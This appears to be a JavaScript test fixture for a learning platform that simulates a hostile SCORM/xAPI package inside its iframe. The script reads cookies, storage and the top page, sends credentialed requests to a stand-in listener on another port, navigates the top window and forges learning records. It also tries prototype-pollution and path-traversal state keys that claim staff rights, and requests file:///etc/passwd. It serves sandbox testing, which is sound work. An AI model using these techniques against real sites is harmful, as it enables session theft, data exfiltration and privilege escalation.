// What a hostile package tries from inside its frame. `attack.all(place)` tries everything, one after the other, and
// writes into `place` what each attempt got: `nothing`, or what it should not have.
// The test replaces the names in capitals: SITE is the site's address, OTHER a listener on another port of its host
// (which would be sent the site's cookies: they don't tell ports apart), MEMBER a file of the package itself.
(() => {
  const site = "SITE";
  const other = "OTHER";
  const api = `${site}/api/statements/?attack=`;
  const PATIENCE_MS = 600;
  const outcomes = {};
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

  async function attempt(name, deed) {
    try {
      const got = await Promise.race([Promise.resolve(deed()), wait(PATIENCE_MS)]);
      outcomes[name] = got ? `GOT ${String(got).slice(0, 200)}` : "nothing";
    } catch {
      outcomes[name] = "nothing";
    }
  }

  /** Whether an element that is put in loads; it stays. */
  const loads = (tag, attributes) =>
    new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), attributes);
      element.onload = element.onloadeddata = () => resolve(`${tag} loaded`);
      element.onerror = () => resolve("");
      document.body.append(element);
    });
  const link = (rel, href, more = {}) => loads("link", { rel, href, ...more });

  /** A window of the browser's own, whose functions nobody has replaced. */
  function freshWindow() {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow;
  }

  const reading = {
    parentDocument: () => parent.parent.document.title || "a document",
    topDocument: () => top.document.body.innerHTML,
    topAddress: () => top.location.href,
    topStorage: () => top.localStorage.length || "a storage",
    siblings: () => [...Array(top.length).keys()].map((place) => top[place]).filter((one) => one !== self && one !== parent)
      .map((one) => one.document.title).join(),
    opener: () => top.opener,
    cookies: () => document.cookie.match(/sessionid|csrftoken/),
    cookiesOfAFreshWindow: () => freshWindow().document.cookie.match(/sessionid|csrftoken/),
    storage: () => localStorage.getItem("kept"),
    storageOfAFreshWindow: () => freshWindow().localStorage.getItem("kept"),
    frameElement: () => self.frameElement?.ownerDocument === top.document && "the page's element",
    microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
    place: () => new Promise((resolve, fail) => navigator.geolocation.getCurrentPosition(() => resolve("a place"), fail)),
    clipboard: () => navigator.clipboard.readText().then((text) => text || "a clipboard"),
  };

  const leaving = {
    topLocation: () => void (top.location = `${other}/top`),
    topReplace: () => top.location.replace(`${other}/replace`),
    windowOfTop: () => freshWindow().open(`${other}/open-top`, "_top") && "the page",
    windowInside: () => void open(`${other}/open-inside`, "inside"), // of SCORM: shown within the frame
    newWindow: () => freshWindow().open(`${other}/open`, "_blank") && "a window",
    newWindowOfTheSite: () => freshWindow().open(`${site}/?attack=open`, "_blank") && "a window",
    scriptOfTop: () => void (top.location = "javascript:document.title='taken'"),
    formToTop: () => send("_top", `${other}/form-top`),
    formToWindow: () => send("_blank", `${other}/form-window`),
  };

  function send(target, action, method = "post") {
    const form = Object.assign(document.createElement("form"), { target, action, method });
    const field = Object.assign(document.createElement("input"), { name: "attack", value: "form" });
    form.append(field);
    document.body.append(form);
    freshWindow().HTMLFormElement.prototype.submit.call(form);
  }

  const statement = JSON.stringify({ verb: { id: "http://adlnet.gov/expapi/verbs/completed" }, attack: "api" });
  const body = { method: "POST", body: statement, credentials: "include" };

  /** All ways to send something to an address, and to hear the answer where there is one. */
  const sending = (name, address, socket) => ({
    [`${name}Fetch`]: () => fetch(`${address}fetch`, { credentials: "include" }).then((answer) => answer.status || "sent"),
    [`${name}Post`]: () => fetch(`${address}post`, body).then((answer) => answer.status || "sent"),
    [`${name}Blind`]: () => fetch(`${address}blind`, { ...body, mode: "no-cors", keepalive: true }).then(() => "sent"),
    [`${name}Fresh`]: () => freshWindow().fetch(`${address}fresh`, { ...body, mode: "no-cors" }).then(() => "sent"),
    [`${name}Xhr`]: () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.onload = () => resolve(`status ${request.status}`);
        request.onerror = () => resolve("");
        request.open("POST", `${address}xhr`);
        request.send(statement);
      }),
    [`${name}Beacon`]: () => void navigator.sendBeacon(`${address}beacon`, statement),
    [`${name}Image`]: () => loads("img", { src: `${address}image` }),
    [`${name}Sound`]: () => loads("audio", { src: `${address}sound`, preload: "auto" }),
    [`${name}Script`]: () => loads("script", { src: `${address}script` }),
    [`${name}Module`]: () => import(`${address}module`).then(() => "a module"),
    [`${name}Style`]: () => link("stylesheet", `${address}style`),
    [`${name}Prefetch`]: () => link("prefetch", `${address}prefetch`),
    [`${name}Preload`]: () => link("preload", `${address}preload`, { as: "image" }),
    [`${name}Icon`]: () => link("icon", `${address}icon`),
    [`${name}Manifest`]: () => link("manifest", `${address}manifest`),
    [`${name}Rules`]: () => {
      const style = document.createElement("style");
      style.textContent =
        `@import url("${address}import"); @font-face { font-family: stolen; src: url("${address}font"); } ` +
        `.stolen { font-family: stolen; background: url("${address}background"); cursor: url("${address}cursor"), auto; }`;
      document.head.append(style);
      const words = Object.assign(document.createElement("p"), { className: "stolen", textContent: "stolen" });
      document.body.append(words);
      return document.fonts.load("16px stolen").then((faces) => faces.some((face) => face.status === "loaded") && "a font");
    },
    [`${name}Face`]: () => new FontFace("x", `url("${address}face")`).load().then(() => "a font"),
    [`${name}Form`]: () => {
      const frame = Object.assign(document.createElement("iframe"), { name: `into-${name}` });
      document.body.append(frame);
      send(frame.name, `${address}form`);
      send(frame.name, `${address}form-get`, "get");
    },
    [`${name}Frame`]: () => void document.body.append(Object.assign(document.createElement("iframe"), { src: `${address}frame` })),
    [`${name}FrameMoved`]: () => void (freshWindow().location = `${address}frame-moved`),
    [`${name}FrameInText`]: () =>
      void document.body.append(
        Object.assign(document.createElement("iframe"), {
          srcdoc: `<meta http-equiv="refresh" content="0;url=${address}refresh"><img src="${address}inner">`,
        }),
      ),
    [`${name}Object`]: () => loads("object", { data: `${address}object` }),
    [`${name}Embed`]: () => loads("embed", { src: `${address}embed` }),
    [`${name}Socket`]: () =>
      new Promise((resolve) => {
        const line = new WebSocket(socket);
        line.onopen = () => resolve("a socket");
        line.onerror = () => resolve("");
      }),
    [`${name}Events`]: () =>
      new Promise((resolve) => {
        const source = new EventSource(`${address}events`, { withCredentials: true });
        source.onopen = () => resolve("events");
        source.onerror = () => (source.close(), resolve(""));
      }),
    [`${name}Worker`]: () =>
      new Promise((resolve) => {
        const words = `fetch("${address}worker", {mode: "no-cors", credentials: "include"}).then(() => postMessage("sent"), () => postMessage(""))`;
        const worker = new Worker(URL.createObjectURL(new Blob([words], { type: "text/javascript" })));
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = () => resolve("");
      }),
    [`${name}Ping`]: () => {
      const anchor = Object.assign(document.createElement("a"), { href: "#stay", ping: `${address}ping` });
      document.body.append(anchor);
      anchor.click();
    },
  });

  const settling = {
    serviceWorker: () => navigator.serviceWorker.register("MEMBER").then(() => "a worker"),
    sharedWorker: () => new Promise((resolve) => {
      const worker = new SharedWorker(`${other}/shared`);
      worker.onerror = () => resolve("");
    }),
    base: () => void document.head.append(Object.assign(document.createElement("base"), { href: `${other}/base/` })),
  };

  const asking = {
    dialogs: () => ["first", "second", "third"].forEach((words) => alert(words)),
  };

  /** Say something to the page of the site in the name of the player's own frame. */
  function say(message) {
    const frame = parent === top ? self : parent;
    try {
      frame.Function("message", "parent.postMessage(message, '*')")(message);
    } catch {
      // What can't be cloned can't be said.
    }
  }

  const VERBS = "http://adlnet.gov/expapi/verbs/";
  const uuid = (number) => `00000000-0000-4000-8000-MARK${number}`;
  const told = (number, more = {}) => ({
    id: uuid(number),
    verb: { id: `${VERBS}completed` },
    object: {},
    result: { score: { raw: 1, min: 0, max: 4, scaled: 0.25 } },
    timestamp: new Date().toISOString(),
    ...more,
  });
  const loop = {};
  loop.loop = loop;

  // The first two are allowed, and 26 and 27 without what is no object: they show that the door was open.
  const statements = [
    told(10),
    told(11, {
      actor: { mbox: "mailto:other@example.org", account: { homePage: site, name: "hs.khoa" } },
      authority: { mbox: "mailto:officer@example.org" },
      object: { id: `${site}/hoc/${uuid(99)}` },
      context: { instructor: { mbox: "mailto:officer@example.org" }, extensions: { [`${site}/xapi/reported-by`]: "server" } },
    }),
    told(20, { result: { score: { scaled: 99 } } }),
    told(21, { result: { score: { raw: 1e300, min: 0, max: 1 } } }),
    told(22, { verb: { id: `${VERBS}voided` }, object: { objectType: "StatementRef", id: uuid(10) } }),
    told(23, { verb: { id: `${VERBS}mastered` } }),
    told(24, { verb: { id: `${VERBS}constructor` } }),
    told(25, { object: { id: `x?subContentId=${"../".repeat(9)}` } }),
    told(26, { object: [1] }),
    told(27, { result: "10/10" }),
    told(28, { timestamp: "tomorrow" }),
    told(29, { id: "../../x" }),
    told(30, { id: { toString: null } }),
    told(31, { object: { definition: { name: { vi: "x".repeat(100_000) } } }, verb: { id: 5 } }),
    told(32, { object: loop }),
    told(33, { result: { score: { raw: 10n } } }),
    told(34, { object: { id: "x".repeat(50_000) } }),
  ];
  const states = [
    ["state/main", { kept: "by the contract" }],
    ["state/main/", "x"],
    ["state/__proto__", { isAdmin: true }],
    ["__proto__", { isAdmin: true }],
    ["constructor", 1],
    ["", "x"],
    ["..", "x"],
    ["cmi/.", "x"],
    ["cmi/..", "x"],
    ["../statements", [told(40)]],
    ["../../../../../api/statements", told(41)],
    ["../../../../me", { is_staff: true }],
    ["cmi/x?attack=1", "x"],
    ["cmi/x#", "x"],
    ["cmi/x\\..\\..", "x"],
    [`cmi/${"x".repeat(5000)}`, "x"],
    ["cmi/large", "x".repeat(5_000_000)],
    ["cmi/loop", loop],
    ["cmi/big", 10n],
    [["cmi/list"], "x"],
  ];
  const asked = [
    `${api}need`, `${other}/need`, "/api/statements/", "/goi/chung/../../api/statements/?attack=up",
    "/goi/chung/..%2f..%2fapi/statements/?attack=coded", "\\\\OTHER_HOST\\need", "//OTHER_HOST/need", "javascript:1", "data:,x",
    "blob:x", "file:///etc/passwd", `http://user:pass@OTHER_HOST/need`,
  ];
  const noise = [
    null, 5, "ready", [], {}, { type: null }, { type: {} }, { type: "__proto__" }, { type: "constructor" }, { type: "close" },
    { type: "start", states: {} }, { type: "flush" }, { type: "files", files: [] }, { type: "height", pixels: 1e12 },
    { type: "height", pixels: NaN }, { type: "height", pixels: -5 }, { type: "height", pixels: "100%;position:fixed" },
    { type: "need", files: "x" }, { type: "need", files: Array(100_000).fill("/api/") }, { type: "statement" },
    { type: "statement", statement: "x" }, { type: "statement", statement: [] }, { type: "state" },
    { type: "trouble", code: "member" }, JSON.parse('{"type": "state", "__proto__": {"key": "state/main", "value": 1}}'),
  ];

  async function forge() {
    const heard = [];
    (parent === top ? self : parent).addEventListener("message", ({ data }) => {
      if (data?.type === "files") heard.push(...data.files.map((file) => file.url));
    });
    for (const message of noise) say(message);
    for (const address of asked) say({ type: "need", files: [address] });
    for (const [key, value] of states) say({ type: "state", key, value });
    for (const one of statements) say({ type: "statement", statement: one });
    // In its own name, which is not the frame's where the package lies deeper.
    if (parent !== top) top.postMessage({ type: "statement", statement: told(50) }, "*");
    try {
      freshWindow().Function("message", "top.postMessage(message, '*')")({ type: "statement", statement: told(51) });
    } catch {
      // A fresh window of a frame without origin is out of its reach.
    }
    await wait(1500);
    outcomes.filesOfOthers = heard.length ? `GOT ${heard.join()}` : "nothing";
  }

  async function all(place) {
    const calls = {
      ...reading,
      ...leaving,
      ...sending("other", `${other}/`, `${other.replace("http", "ws")}/socket`),
      ...sending("site", api, `${site.replace("http", "ws")}/ws/`),
      ...settling,
      ...asking,
    };
    for (const [name, deed] of Object.entries(calls)) await attempt(name, deed);
    await forge();
    for (const [target, id] of [["_top", "to-top"], ["_blank", "to-window"]]) {
      const anchor = Object.assign(document.createElement("a"), { href: `${other}/${id}`, target, id, textContent: id });
      anchor.style.cssText = "display: block; padding: 12px";
      document.body.prepend(anchor);
    }
    place.textContent = JSON.stringify(outcomes);
    place.id = "outcomes";
  }

  /** Ways to take the frame itself elsewhere; each is the last thing a document does. */
  const frame = () => (parent === top ? self : parent);
  const away = {
    location: () => void (frame().location = `${other}/away`),
    fromWithin: () => frame().Function("to", "location.assign(to)")(`${other}/away-within`),
    refresh: () => {
      const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${other}/refresh` });
      frame().document.head.append(meta);
    },
    form: () => send("_self", `${other}/form-self`),
    site: () => frame().Function("to", "location.assign(to)")(`${site}/khoa-hoc/?attack=away`),
  };

  window.attack = { all, away };
})();
